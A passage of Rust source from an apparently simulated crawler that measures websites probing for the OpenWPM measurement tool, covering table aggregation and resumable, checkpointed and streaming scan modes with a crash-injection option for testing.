    pub stream: Option<StreamStats>,
}

impl ScanReport {
    /// Count completed sites matching `f`. In streaming mode per-record
    /// state is gone by the time the report exists — use the
    /// pre-aggregated tables instead.
    pub fn count(&self, f: impl Fn(&SiteScanRecord) -> bool) -> u32 {
        self.sites.iter().filter(|s| f(s)).count() as u32
    }

    /// The coverage statement printed under every table.
    pub fn coverage_line(&self) -> String {
        self.completion.coverage_line()
    }

    /// Table 5 rows: (static, dynamic, union) × (identified, true), over
    /// front + subpages.
    pub fn table5(&self) -> [(u32, u32); 3] {
        if let Some(agg) = &self.aggregates {
            return agg.table5();
        }
        [
            (
                self.count(|s| s.site.static_identified),
                self.count(|s| s.site.static_true),
            ),
            (
                self.count(|s| s.site.dynamic_identified),
                self.count(|s| s.site.dynamic_true),
            ),
            (
                self.count(|s| s.site.union_identified()),
                self.count(|s| s.site.union_true()),
            ),
        ]
    }

    /// Table 6: OpenWPM-specific probes per provider domain × property.
    pub fn table6(&self) -> BTreeMap<String, BTreeMap<String, u32>> {
        if let Some(agg) = &self.aggregates {
            return agg.table6.clone();
        }
        let mut out: BTreeMap<String, BTreeMap<String, u32>> = BTreeMap::new();
        for site in &self.sites {
            let mut per_site: Vec<&(String, String)> = site.openwpm_probes.iter().collect();
            per_site.sort();
            per_site.dedup();
            for (provider, prop) in per_site {
                *out.entry(provider.clone()).or_default().entry(prop.clone()).or_insert(0) += 1;
            }
        }
        out
    }

    /// Table 7: third-party hosting domains by inclusion count (1/site).
    pub fn table7(&self) -> Vec<(String, u32)> {
        let tally: BTreeMap<String, u32> = match &self.aggregates {
            Some(agg) => agg.table7.clone(),
            None => {
                let mut tally: BTreeMap<String, u32> = BTreeMap::new();
                for site in &self.sites {
                    for d in &site.third_party_domains {
                        *tally.entry(d.clone()).or_insert(0) += 1;
                    }
                }
                tally
            }
        };
        let mut v: Vec<(String, u32)> = tally.into_iter().collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v
    }

    /// Table 12: first-party origin clusters.
    pub fn table12(&self) -> BTreeMap<&'static str, u32> {
        if let Some(agg) = &self.aggregates {
            return agg.table12.clone();
        }
        let mut out: BTreeMap<&'static str, u32> = BTreeMap::new();
        for site in &self.sites {
            let mut origins: Vec<&'static str> =
                site.first_party_urls.iter().map(|u| first_party_origin_of(u)).collect();
            origins.sort();
            origins.dedup();
            for o in origins {
                *out.entry(o).or_insert(0) += 1;
            }
        }
        out
    }

    /// Fig. 3/4 series: per-1K-rank-bucket counts of
    /// `(front static, front dynamic, site static, site dynamic)`.
    pub fn rank_buckets(&self, bucket: u32) -> Vec<[u32; 4]> {
        let nb = self.n_sites.div_ceil(bucket);
        let mut out = vec![[0u32; 4]; nb as usize];
        let flags: Box<dyn Iterator<Item = (u32, PageFlags, PageFlags)> + '_> =
            match &self.aggregates {
                Some(agg) => Box::new(agg.flags.iter().copied()),
                None => Box::new(self.sites.iter().map(|s| (s.rank, s.front, s.site))),
            };
        for (rank, front, site) in flags {
            let b = (rank / bucket) as usize;
            if front.static_true {
                out[b][0] += 1;
            }
            if front.dynamic_true {
                out[b][1] += 1;
            }
            if site.static_true {
                out[b][2] += 1;
            }
            if site.dynamic_true {
                out[b][3] += 1;
            }
        }
        out
    }

    /// Fig. 5: category tallies for first-party vs third-party detector
    /// sites.
    pub fn category_tallies(&self) -> (BTreeMap<&'static str, u32>, BTreeMap<&'static str, u32>) {
        if let Some(agg) = &self.aggregates {
            return (agg.cat_first.clone(), agg.cat_third.clone());
        }
        let mut first: BTreeMap<&'static str, u32> = BTreeMap::new();
        let mut third: BTreeMap<&'static str, u32> = BTreeMap::new();
        for s in &self.sites {
            if !s.site.union_true() {
                continue;
            }
            let target = if s.first_party_urls.is_empty() { &mut third } else { &mut first };
            for c in &s.categories {
                *target.entry(c.name()).or_insert(0) += 1;
            }
        }
        (first, third)
    }

    /// Corpus statistics: `(scripts collected, unique bodies)` — the paper
    /// collected 1,535,306 unique scripts over its crawl.
    pub fn script_stats(&self) -> (u64, u64) {
        if let Some(agg) = &self.aggregates {
            return (agg.scripts_total, agg.script_hashes.len() as u64);
        }
        let mut total = 0u64;
        let mut seen = std::collections::HashSet::new();
        for site in &self.sites {
            total += site.script_hashes.len() as u64;
            seen.extend(site.script_hashes.iter().copied());
        }
        (total, seen.len() as u64)
    }

    /// Total first-party vs third-party detector inclusions (Sec. 4.3).
    pub fn inclusion_totals(&self) -> (u32, u32) {
        if let Some(agg) = &self.aggregates {
            return (agg.first_party_inclusions, agg.third_party_inclusions);
        }
        let first = self.sites.iter().map(|s| s.first_party_urls.len() as u32).sum();
        let third = self.sites.iter().map(|s| s.third_party_domains.len() as u32).sum();
        (first, third)
    }
}

/// Streaming-mode table state, folded one record at a time so completed
/// [`SiteScanRecord`]s can be dropped the moment they are flushed to
/// disk. `add` mirrors the per-site logic of the [`ScanReport`] table
/// methods exactly (including per-site dedup), so a streamed scan and a
/// classic scan of the same config produce identical tables.
#[derive(Clone, Debug, Default)]
pub struct ScanAggregates {
    /// Completed-site count (the Table-5 denominator).
    pub completed: u32,
    /// `(rank, front, site)` flags per completed site — 17 bytes/site,
    /// the only per-site residue streaming keeps (for `rank_buckets`).
    flags: Vec<(u32, PageFlags, PageFlags)>,
    table6: BTreeMap<String, BTreeMap<String, u32>>,
    table7: BTreeMap<String, u32>,
    table12: BTreeMap<&'static str, u32>,
    cat_first: BTreeMap<&'static str, u32>,
    cat_third: BTreeMap<&'static str, u32>,
    scripts_total: u64,
    script_hashes: HashSet<u64>,
    first_party_inclusions: u32,
    third_party_inclusions: u32,
    table5_identified: [u32; 3],
    table5_true: [u32; 3],
}

impl ScanAggregates {
    /// Fold one completed site into every table.
    pub fn add(&mut self, s: &SiteScanRecord) {
        self.completed += 1;
        self.flags.push((s.rank, s.front, s.site));
        if s.site.static_identified {
            self.table5_identified[0] += 1;
        }
        if s.site.static_true {
            self.table5_true[0] += 1;
        }
        if s.site.dynamic_identified {
            self.table5_identified[1] += 1;
        }
        if s.site.dynamic_true {
            self.table5_true[1] += 1;
        }
        if s.site.union_identified() {
            self.table5_identified[2] += 1;
        }
        if s.site.union_true() {
            self.table5_true[2] += 1;
        }
        let mut per_site: Vec<&(String, String)> = s.openwpm_probes.iter().collect();
        per_site.sort();
        per_site.dedup();
        for (provider, prop) in per_site {
            *self
                .table6
                .entry(provider.clone())
                .or_default()
                .entry(prop.clone())
                .or_insert(0) += 1;
        }
        for d in &s.third_party_domains {
            *self.table7.entry(d.clone()).or_insert(0) += 1;
        }
        let mut origins: Vec<&'static str> =
            s.first_party_urls.iter().map(|u| first_party_origin_of(u)).collect();
        origins.sort();
        origins.dedup();
        for o in origins {
            *self.table12.entry(o).or_insert(0) += 1;
        }
        if s.site.union_true() {
            let target =
                if s.first_party_urls.is_empty() { &mut self.cat_third } else { &mut self.cat_first };
            for c in &s.categories {
                *target.entry(c.name()).or_insert(0) += 1;
            }
        }
        self.scripts_total += s.script_hashes.len() as u64;
        self.script_hashes.extend(s.script_hashes.iter().copied());
        self.first_party_inclusions += s.first_party_urls.len() as u32;
        self.third_party_inclusions += s.third_party_domains.len() as u32;
    }

    pub fn table5(&self) -> [(u32, u32); 3] {
        [
            (self.table5_identified[0], self.table5_true[0]),
            (self.table5_identified[1], self.table5_true[1]),
            (self.table5_identified[2], self.table5_true[2]),
        ]
    }
}

/// Recovery and memory statistics for a streamed scan.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct StreamStats {
    /// A prior checkpoint was found and at least one line survived.
    pub resumed: bool,
    /// Records adopted from the trusted bundle prefix without re-visiting.
    pub records_replayed: u64,
    /// Records flushed to the bundle by this run.
    pub records_flushed: u64,
    /// Checkpoint lines discarded as torn or corrupt.
    pub checkpoint_lines_dropped: u64,
    /// Bundle manifest lines past the checkpointed high-water mark
    /// (unacknowledged appends, discarded on resume).
    pub bundle_tail_dropped: u64,
    /// Sites whose work was lost in the crash and had to be re-visited
    /// (orphaned bundle entries + trusted entries missing their line).
    pub revisits: u64,
    /// High-water mark of completed records simultaneously alive in
    /// memory — bounded by the worker count, not the site count.
    pub peak_records_in_flight: u64,
    /// The bundle was sealed (every rank determined). `false` means a
    /// budget-limited run left work for a future resume.
    pub committed: bool,
}

/// One configured scan session — the single entrypoint for plain,
/// supervised and checkpointed scans:
///
/// ```ignore
/// // Plain scan:
/// let report = Scan::new(cfg).run()?;
/// // Resumable scan with a completion callback:
/// let report = Scan::new(cfg)
///     .checkpoint("scan.ckpt")
///     .on_complete(|rank, outcome, attempts| { /* progress */ })
///     .run()?;
/// ```
///
/// `run` only returns `Err` for checkpoint I/O failures; a scan without
/// [`Scan::checkpoint`] cannot fail.
pub struct Scan<'a> {
    cfg: ScanConfig,
    checkpoint: Option<std::path::PathBuf>,
    record_dir: Option<std::path::PathBuf>,
    replay_dir: Option<std::path::PathBuf>,
    stream_dir: Option<std::path::PathBuf>,
    crash: Option<CrashPlan>,
    engine: Option<jsengine::Engine>,
    prior: Vec<Option<VisitOutcome<SiteScanRecord>>>,
    prior_attempts: Vec<u32>,
    #[allow(clippy::type_complexity)]
    on_complete: Option<Box<dyn Fn(usize, &VisitOutcome<SiteScanRecord>, u32) + Sync + 'a>>,
}

impl<'a> Scan<'a> {
    pub fn new(cfg: ScanConfig) -> Scan<'a> {
        Scan {
            cfg,
            checkpoint: None,
            record_dir: None,
            replay_dir: None,
            stream_dir: None,
            crash: None,
            engine: None,
            prior: Vec::new(),
            prior_attempts: Vec::new(),
            on_complete: None,
        }
    }

    /// Select the MiniJS execution backend for this scan's realms
    /// ([`jsengine::Engine::Vm`] by default, or whatever `GULLIBLE_ENGINE`
    /// says). Both backends are observably identical — per-site records,
    /// tables and the telemetry digest are byte-for-byte the same — so
    /// this only changes how fast the interpretation phase runs.
    pub fn engine(mut self, engine: jsengine::Engine) -> Scan<'a> {
        self.engine = Some(engine);
        self
    }

    /// Record the scan into a crawl bundle at `dir`: every served script
    /// body (content-deduplicated), page structure, typed outcome and
    /// record fingerprint is archived, and the bundle is sealed with the
    /// run's Table 5 and telemetry digest. Incompatible with
    /// [`Scan::checkpoint`]/[`Scan::resume_from`] (replayed priors skip
    /// the completion hook, which would leave holes in the bundle).
    pub fn record(mut self, dir: impl Into<std::path::PathBuf>) -> Scan<'a> {
        self.record_dir = Some(dir.into());
        self
    }

    /// Re-run the whole measurement pipeline from the bundle at `dir`
    /// instead of generating sites: the recorded scan configuration is
    /// adopted (only `workers` is kept from this scan's config), pages are
    /// served from the archive, and every re-derived outcome is verified
    /// against the recorded one ([`ScanReport::replay`]). Incompatible
    /// with checkpoint/record/resume_from.
    pub fn replay(mut self, dir: impl Into<std::path::PathBuf>) -> Scan<'a> {
        self.replay_dir = Some(dir.into());
        self
    }

    /// Checkpoint to `path`: previously-determined sites are loaded and
    /// replayed, every newly-determined site is appended as soon as it
    /// completes. Interrupt the process (or set `cfg.visit_budget`) and
    /// run again with the same path to resume; the final aggregates are
    /// identical to an uninterrupted run. Overrides [`Scan::resume_from`].
    pub fn checkpoint(mut self, path: impl Into<std::path::PathBuf>) -> Scan<'a> {
        self.checkpoint = Some(path.into());
        self
    }

    /// Crash-consistent streaming mode: archive the scan into the bundle
    /// at `dir`, flushing every completed record to disk the moment it is
    /// determined and then *dropping it* — peak record memory is bounded
    /// by the worker count, not the site count. The bundle doubles as the
    /// checkpoint: each flushed record is acknowledged by one line in
    /// `<dir>/scan.ckpt` carrying the bundle's high-water mark, so a
    /// killed crawl resumes by trusting exactly the acknowledged prefix,
    /// discarding any torn tail, and re-visiting only in-flight sites.
    /// The resumed run's per-site records, tables and telemetry digest
    /// are byte-identical to an uninterrupted run. Incompatible with
    /// checkpoint/record/replay/resume_from — streaming manages its own
    /// checkpoint inside `dir`.
    pub fn stream_to(mut self, dir: impl Into<std::path::PathBuf>) -> Scan<'a> {
        self.stream_dir = Some(dir.into());
        self
    }

    /// Chaos testing: kill this process (by unwinding with a recognisable
    /// panic — see [`openwpm::catch_crash`]) at the planned kill point
    /// during streaming flushes. Only meaningful with [`Scan::stream_to`];
    /// `run` rejects the combination otherwise.
    pub fn inject_crash(mut self, plan: CrashPlan) -> Scan<'a> {
        self.crash = Some(plan);
        self
    }

    /// Resume from in-memory state: `prior[rank] = Some(outcome)` replays
    /// a previously-determined outcome without re-visiting, and
    /// `prior_attempts[rank]` carries its original attempt count (used by
    /// the aggregated crawl history).
    pub fn resume_from(
        mut self,
        prior: Vec<Option<VisitOutcome<SiteScanRecord>>>,
        prior_attempts: Vec<u32>,
    ) -> Scan<'a> {
        self.prior = prior;
        self.prior_attempts = prior_attempts;
        self
    }

    /// Completion callback: fires once per newly-determined site (not for
    /// replayed priors), from worker threads.
    pub fn on_complete(
        mut self,
        f: impl Fn(usize, &VisitOutcome<SiteScanRecord>, u32) + Sync + 'a,
    ) -> Scan<'a> {
        self.on_complete = Some(Box::new(f));
        self
    }

    /// Execute the session. `Err` only for checkpoint/bundle I/O failures
    /// or an invalid mode combination.
    pub fn run(self) -> std::io::Result<ScanReport> {
        if let Some(engine) = self.engine {
            // Workers build realms via `Interp::new`/`clone_realm`, which
            // read the process default — one write here covers every mode.
            jsengine::set_default_engine(engine);
        }
        if self.stream_dir.is_some() {
            return self.run_stream();
        }
        if self.crash.is_some() {
            return Err(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "Scan::inject_crash requires Scan::stream_to (kill points live in the \
                 streaming flush path)",
            ));
        }
        if self.replay_dir.is_some() {
            return self.run_replay();
        }
        if self.record_dir.is_some() {
            return self.run_record();
        }
        let cfg = self.cfg;
        let source = ScanSource::live(&cfg);
        let user = self.on_complete;
        let Some(path) = self.checkpoint else {
            let report = match &user {
                Some(f) => {
                    run_scan_inner(cfg, &source, self.prior, &self.prior_attempts, f, false)
                }
                None => run_scan_inner(
                    cfg,
                    &source,
                    self.prior,
                    &self.prior_attempts,
                    &|_, _, _| {},
                    false,
                ),
            };
            return Ok(report);
        };
        let (prior, prior_attempts, dropped) = match std::fs::read_to_string(&path) {
            Ok(contents) => load_checkpoint(checkpoint_body(&contents, &path)?, cfg.n_sites),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                ((0..cfg.n_sites).map(|_| None).collect(), vec![0u32; cfg.n_sites as usize], 0)
            }
            Err(e) => return Err(e),
        };
        let replayed = prior.iter().filter(|p| p.is_some()).count();
        obs::emit(
            obs::Event::new(0, "checkpoint_load")
                .attr("replayed", replayed)
                .attr("dropped", dropped),
        );
        let needs_header = match std::fs::metadata(&path) {
            Ok(m) => m.len() == 0,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => true,
            Err(e) => return Err(e),
        };
        if needs_header {
            // Fresh file: stamp the format version so a future (or past)
            // build can refuse it loudly instead of mis-parsing. Written
            // to a temp file and renamed into place — a kill mid-header
            // can truncate an ordinary write, and a torn header would
            // hard-error every later resume.
            write_checkpoint_header_atomic(&path)?;
        }
        let file = std::fs::OpenOptions::new().append(true).open(&path)?;
        let writer = Mutex::new(std::io::BufWriter::new(file));
        let mut report =
            run_scan_inner(cfg, &source, prior, &prior_attempts, &|rank, outcome, attempts| {
                if let Some(line) = checkpoint_line(rank as u32, outcome, attempts) {
                    let mut w = writer.lock().unwrap();
                    // Write-and-flush per site keeps the checkpoint durable
                    // at the cost of one syscall per site — negligible next
                    // to a visit, and a kill loses at most the in-flight
                    // line.
                    let _ = writeln!(w, "{line}");
                    let _ = w.flush();
                    drop(w);
                    obs::add("checkpoint.writes", 1);
                    // Emitted inside the visit scope the supervisor holds
                    // open during `on_complete`, so it lands in this site's
                    // trace.
                    obs::emit(obs::Event::new(0, "checkpoint_write").attr("rank", rank));
                }
                if let Some(f) = &user {
                    f(rank, outcome, attempts);
                }
            }, false);
        report.completion.checkpoint_lines_dropped = dropped;
        Ok(report)
    }

    fn run_record(self) -> std::io::Result<ScanReport> {
        if self.checkpoint.is_some() || !self.prior.is_empty() {
            // Replayed priors skip `on_complete`, which would leave holes
            // in the bundle — a recording run must determine every site.
            return Err(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "Scan::record cannot be combined with checkpoint/resume_from",
            ));
        }
        let cfg = self.cfg;
        let dir = self.record_dir.expect("run_record requires record_dir");
        let recorder = Recorder::create(&dir, &cfg)?;
        let user = self.on_complete;
        let source = ScanSource::live(&cfg);
        let prior = (0..cfg.n_sites).map(|_| None).collect();
        let mut report = run_scan_inner(
            cfg,
            &source,
            prior,
            &[],
            &|rank, outcome, attempts| {
                recorder.record(rank, outcome, attempts);
                if let Some(f) = &user {
                    f(rank, outcome, attempts);
                }
            },
            true,
        );
        report.archive = Some(recorder.finish(&report)?);
        Ok(report)
    }

    fn run_replay(self) -> std::io::Result<ScanReport> {
        if self.checkpoint.is_some() || self.record_dir.is_some() || !self.prior.is_empty() {
            return Err(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "Scan::replay cannot be combined with checkpoint/record/resume_from",
            ));
        }
        let dir = self.replay_dir.expect("run_replay requires replay_dir");
        let bundle = Arc::new(ReplayBundle::open(&dir)?);
        // The recorded experiment defines the configuration; only the
        // degree of parallelism stays the caller's (results are
        // worker-count independent).
        let cfg = bundle.scan_config(self.cfg.workers);
        let verifier = Verifier::new(Arc::clone(&bundle));
        let user = self.on_complete;
        let source = ScanSource::Replay(bundle);
        let prior = (0..cfg.n_sites).map(|_| None).collect();
        let mut report = run_scan_inner(
            cfg,
            &source,
            prior,
            &[],
            &|rank, outcome, attempts| {
                verifier.check(rank, outcome, attempts);
                if let Some(f) = &user {
                    f(rank, outcome, attempts);
                }
            },
            true,
        );
        report.replay = Some(verifier.stats());
        Ok(report)
    }

    fn run_stream(self) -> std::io::Result<ScanReport> {
        if self.checkpoint.is_some()
            || self.record_dir.is_some()
            || self.replay_dir.is_some()
            || !self.prior.is_empty()
        {
            return Err(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "Scan::stream_to cannot be combined with checkpoint/record/replay/resume_from \
                 (streaming manages its own checkpoint at <dir>/scan.ckpt)",
            ));
        }
        let cfg = self.cfg;
        let n = cfg.n_sites as usize;
        let dir = self.stream_dir.expect("run_stream requires stream_dir");
        std::fs::create_dir_all(&dir)?;
        let ckpt_path = dir.join(STREAM_CHECKPOINT_FILE);

        // Per-visit registry deltas are captured for the checkpoint lines
        // so a resume can restore exactly the metrics the replayed visits
        // emitted. The guard turns capture back off even when an injected
        // crash unwinds through the scan.
        obs::set_scope_metrics(true);
        let _scope_guard = ScopeMetricsGuard;

        let ckpt_contents = match std::fs::read_to_string(&ckpt_path) {
            Ok(c) => Some(c),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
            Err(e) => return Err(e),
        };
        let (lines, ckpt_dropped) = match &ckpt_contents {
            Some(c) => {
                let body = checkpoint_body(c, &ckpt_path)?;
                load_stream_checkpoint(body, cfg.n_sites)
            }
            None => (Vec::new(), 0),
        };
        let resumed = !lines.is_empty();
        if ckpt_dropped > 0 {
            obs::add("crash.lines_dropped", ckpt_dropped as u64);
        }

        let mut prior: Vec<Option<VisitOutcome<()>>> = (0..n).map(|_| None).collect();
        let mut prior_attempts = vec![0u32; n];
        let mut line_hashes: Vec<Option<u64>> = vec![None; n];
        let mut agg = ScanAggregates::default();
        let mut stream_stats = StreamStats {
            resumed,
            checkpoint_lines_dropped: ckpt_dropped as u64,
            ..StreamStats::default()
        };
        let injector = self.crash.map(CrashInjector::new);

        let recorder = if resumed {
            // The highest manifest offset any surviving line acknowledged
            // bounds what the bundle is trusted for; everything past it
            // is an unacknowledged (possibly torn) tail.
            let max_hwm = lines.iter().map(|l| l.hwm).max().expect("resumed => non-empty");
            let harvest = harvest_stream(&dir, &cfg, max_hwm)?;
            let mut consumed: HashSet<u32> = HashSet::new();
            for line in &lines {
                let Some(entry) = harvest.trusted.get(&line.rank) else {
                    return Err(std::io::Error::new(
                        std::io::ErrorKind::InvalidData,
                        format!(
                            "{}: checkpoint line for rank {} has no bundle entry inside the \
                             trusted prefix — checkpoint and bundle disagree",
                            dir.display(),
                            line.rank
                        ),
                    ));
                };
                match (&line.failed, entry.status.as_str()) {
                    (None, "ok") => {
                        if line.entry_hash != Some(entry.hash) {
                            return Err(std::io::Error::new(
                                std::io::ErrorKind::InvalidData,
                                format!(
                                    "{}: bundle entry for rank {} does not match its checkpoint \
                                     line (entry hash {:016x}, line acknowledges {:016x})",
                                    dir.display(),
                                    line.rank,
                                    entry.hash,
                                    line.entry_hash.unwrap_or(0)
                                ),
                            ));
                        }
                        let rec = decode_site_record(&entry.payload).ok_or_else(|| {
                            std::io::Error::new(
                                std::io::ErrorKind::InvalidData,
                                format!(
                                    "{}: corrupt site record for rank {} inside the trusted \
                                     prefix",
                                    dir.display(),
                                    line.rank
                                ),
                            )
                        })?;
                        agg.add(&rec);
                        prior[line.rank as usize] = Some(VisitOutcome::Completed(()));
                    }
                    (Some(reason), "failed") => {
                        prior[line.rank as usize] = Some(VisitOutcome::Failed {
                            reason: reason.clone(),
                            attempts: line.attempts,
                        });
                    }
                    (_, other) => {
                        return Err(std::io::Error::new(
                            std::io::ErrorKind::InvalidData,
                            format!(
                                "{}: status mismatch for rank {} — checkpoint says {}, bundle \
                                 entry says {other}",
                                dir.display(),
                                line.rank,
                                if line.failed.is_some() { "failed" } else { "flushed" },
                            ),
                        ));
                    }
                }
                prior_attempts[line.rank as usize] = line.attempts;
                line_hashes[line.rank as usize] = Some(entry.hash);
                obs::restore_metrics(&line.delta);
                consumed.insert(line.rank);
                stream_stats.records_replayed += 1;
            }
            let revisits = harvest.orphan_ranks.len() as u64
                + harvest.trusted.keys().filter(|r| !consumed.contains(r)).count() as u64;
            stream_stats.bundle_tail_dropped = harvest.tail_dropped;
            stream_stats.revisits = revisits;
            obs::add("crash.resume", 1);
            obs::add("crash.tail_dropped", harvest.tail_dropped);
            obs::add("crash.revisits", revisits);
            obs::emit(
                obs::Event::new(0, "stream_resume")
                    .attr("replayed", stream_stats.records_replayed as usize)
                    .attr("lines_dropped", ckpt_dropped)
                    .attr("tail_dropped", harvest.tail_dropped as usize)
                    .attr("revisits", revisits as usize),
            );
            let ckpt = std::fs::OpenOptions::new().append(true).open(&ckpt_path)?;
            StreamRecorder::resume(&dir, &cfg, max_hwm, ckpt, line_hashes, injector)?
        } else {
            // Nothing trusted — a fresh directory, or a checkpoint whose
            // every line was torn. Start clean: recreate both files (the
            // bundle too, so a stale partial bundle can't leak in).
            let ckpt = create_stream_checkpoint(&ckpt_path)?;
            StreamRecorder::create(&dir, &cfg, ckpt, injector)?
        };

        let agg = Mutex::new(agg);
        let gauge = Arc::new(InFlight::default());
        let user = self.on_complete;
        let source = ScanSource::live(&cfg);
        let hook = |rank: usize, outcome: &VisitOutcome<TrackedRecord>, attempts: u32| {
            // Capture the visit's registry delta first: everything the
            // visit emitted, and none of the flush's own (digest-excluded)
            // bookkeeping below.
            let delta = obs::take_scope_metrics().map(|m| m.encode()).unwrap_or_default();
            match outcome {
                VisitOutcome::Completed(t) => {
                    agg.lock().unwrap_or_else(|e| e.into_inner()).add(&t.rec);
                    recorder.flush(rank as u32, StreamOutcome::Ok(&t.rec), attempts, &delta);
                    if let Some(f) = &user {
                        // The user hook keeps the classic signature; the
                        // clone only costs when a hook is installed.
                        f(rank, &VisitOutcome::Completed(t.rec.clone()), attempts);
                    }
                }
                VisitOutcome::Failed { reason, attempts: a } => {
                    recorder.flush(rank as u32, StreamOutcome::Failed(reason), attempts, &delta);
                    if let Some(f) = &user {
                        f(rank, &VisitOutcome::Failed { reason: reason.clone(), attempts: *a }, attempts);
                    }
                }
                VisitOutcome::Interrupted => {
                    if let Some(f) = &user {
                        f(rank, &VisitOutcome::Interrupted, attempts);
                    }
                }
            }
        };
        let (summary, history) = run_stream_scan(cfg, &source, prior, &prior_attempts, &gauge, &hook);

        let mut completion = summary;
        completion.checkpoint_lines_dropped = ckpt_dropped;
        let agg = agg.into_inner().unwrap_or_else(|e| e.into_inner());
        let table5 = agg.table5();
        let (archive_stats, flushed) = recorder.finish(&completion, table5)?;
        stream_stats.records_flushed = flushed;
        stream_stats.peak_records_in_flight = gauge.peak.load(Ordering::Relaxed);
        stream_stats.committed = archive_stats.is_some();
        Ok(ScanReport {
            n_sites: cfg.n_sites,
            sites: Vec::new(),
            completion,
            history,
            archive: archive_stats,
            replay: None,
            aggregates: Some(agg),
            stream: Some(stream_stats),
        })
    }
}

struct ScopeMetricsGuard;

impl Drop for ScopeMetricsGuard {
    fn drop(&mut self) {
        obs::set_scope_metrics(false);
    }
}

/// Run the full scan under the supervised executor (no checkpointing).
#[deprecated(note = "use the `Scan` builder: `Scan::new(cfg).run()`")]
pub fn run_scan(cfg: ScanConfig) -> ScanReport {
    Scan::new(cfg).run().expect("scan without checkpoint cannot fail")
}

/// Supervised scan with explicit resume state and a completion callback.
#[deprecated(
    note = "use the `Scan` builder: `Scan::new(cfg).resume_from(prior, attempts).on_complete(f).run()`"
)]
pub fn run_scan_supervised(
    cfg: ScanConfig,
    prior: Vec<Option<VisitOutcome<SiteScanRecord>>>,
    prior_attempts: &[u32],
    on_complete: &(impl Fn(usize, &VisitOutcome<SiteScanRecord>, u32) + Sync),
) -> ScanReport {
    Scan::new(cfg)
        .resume_from(prior, prior_attempts.to_vec())
        .on_complete(on_complete)
        .run()
        .expect("scan without checkpoint cannot fail")
}

/// Where a scan's site content comes from: the deterministic generator
/// (live) or a recorded crawl bundle (replay). `run_scan_inner` is
/// source-agnostic — the supervisor, browser, instruments and detection
/// pipeline run identically either way.
pub(crate) enum ScanSource {
    Live { pop: Population, include_subpages: bool },
    Replay(Arc<ReplayBundle>),
}

impl ScanSource {
    fn live(cfg: &ScanConfig) -> ScanSource {
        ScanSource::Live { pop: cfg.population(), include_subpages: cfg.include_subpages }
    }

    fn meta(&self, rank: u32) -> ItemMeta {
        match self {
            ScanSource::Live { pop, .. } => {
                let plan = pop.plan(rank);
                ItemMeta {
                    label: plan.front_url().to_string(),
                    fault_key: rank as u64,
                    flaky: plan.flaky,
                }
            }
            ScanSource::Replay(bundle) => {
                let visit = &bundle.site(rank).visit;
                ItemMeta {
                    label: self.front_url(rank),
                    fault_key: rank as u64,
                    flaky: visit.flaky,
                }
            }
        }
    }

    fn front_url(&self, rank: u32) -> String {
        match self {
            ScanSource::Live { pop, .. } => pop.plan(rank).front_url().to_string(),
            ScanSource::Replay(bundle) => bundle
                .site(rank)
                .visit
                .pages
                .first()
                .map(|p| p.url.clone())
                .unwrap_or_default(),
        }
    }

    fn site_visit(&self, rank: u32) -> SiteVisit {
        match self {
            ScanSource::Live { pop, include_subpages } => {
                site_visit(&pop.plan(rank), *include_subpages)
            }
            // Script bodies are `Arc<str>`, so cloning a recorded visit is
            // pointer-cheap.
            ScanSource::Replay(bundle) => bundle.site(rank).visit.clone(),
        }
    }
}

/// The supervised scan core shared by every [`Scan`] flavour.
fn run_scan_inner(
    cfg: ScanConfig,
    source: &ScanSource,
    prior: Vec<Option<VisitOutcome<SiteScanRecord>>>,
    prior_attempts: &[u32],
    on_complete: &(dyn Fn(usize, &VisitOutcome<SiteScanRecord>, u32) + Sync),
    capture: bool,
) -> ScanReport {
    let ranks: Vec<u32> = (0..cfg.n_sites).collect();
    let seed = cfg.seed;
    let interact = cfg.simulate_interaction;
    let phase = obs::phase("scan.visits");
    let crawl = run_supervised_fallible(
        ranks,
        cfg.workers,
        cfg.supervisor(),
        |rank: &u32| source.meta(*rank),
        move |worker| {
            // Every worker gets the *same* config seed: per-visit event-id
            // seeds are keyed by site rank (`set_visit_key` below), so a
            // site's records are identical no matter which worker visits
            // it — the property the telemetry determinism tests pin down.
            let mut config = BrowserConfig::scanner(seed);
            config.simulate_interaction = interact;
            Browser::new(config).with_instance(worker as u32)
        },
        move |browser, _idx, rank: &u32| {
            browser.set_visit_key(*rank as u64);
            let visit = source.site_visit(*rank);
            scan_site_visit(browser, &visit, capture)
        },
        prior,
        on_complete,
    );
    drop(phase);
    let _phase = obs::phase("scan.aggregate");
    let mut sites = Vec::new();
    let mut history = Vec::with_capacity(crawl.outcomes.len());
    for (i, outcome) in crawl.outcomes.into_iter().enumerate() {
        let rank = i as u32;
        let url = source.front_url(rank);
        // Replayed priors report 0 attempts this run; fall back to the
        // checkpointed count so a resumed history matches the original.
        let attempts = if crawl.attempts[i] > 0 {
            crawl.attempts[i]
        } else {
            prior_attempts.get(i).copied().unwrap_or(1)
        };
        match outcome {
            VisitOutcome::Completed(rec) => {
                history.push(CrawlHistoryRecord::ok(rank as u64, &url, attempts));
                sites.push(rec);
            }
            VisitOutcome::Failed { reason, attempts } => {
                history.push(CrawlHistoryRecord::failed(
                    rank as u64,
                    &url,
                    reason.as_str(),
                    attempts,
                ));
            }
            VisitOutcome::Interrupted => {
                history.push(CrawlHistoryRecord::interrupted(rank as u64, &url));
            }
        }
    }
    ScanReport {
        n_sites: cfg.n_sites,
        sites,
        completion: crawl.summary,
        history,
        archive: None,
        replay: None,
        aggregates: None,
        stream: None,
    }
}

/// Gauge of completed [`SiteScanRecord`]s currently alive in memory.
/// Streaming's core claim — peak record memory is O(workers), not
/// O(sites) — is asserted against `peak` by the chaos bench.
#[derive(Debug, Default)]
pub(crate) struct InFlight {
    cur: AtomicU64,
    pub(crate) peak: AtomicU64,
}

/// A completed record plus its liveness gauge. The `Drop` impl (rather
/// than an explicit decrement in the fold hook) keeps the gauge exact on
/// every exit path — including the supervisor's tab-crash branch, which
/// discards an `Ok` record without ever reaching the fold.
pub(crate) struct TrackedRecord {
    pub(crate) rec: SiteScanRecord,
    gauge: Arc<InFlight>,
}

impl TrackedRecord {
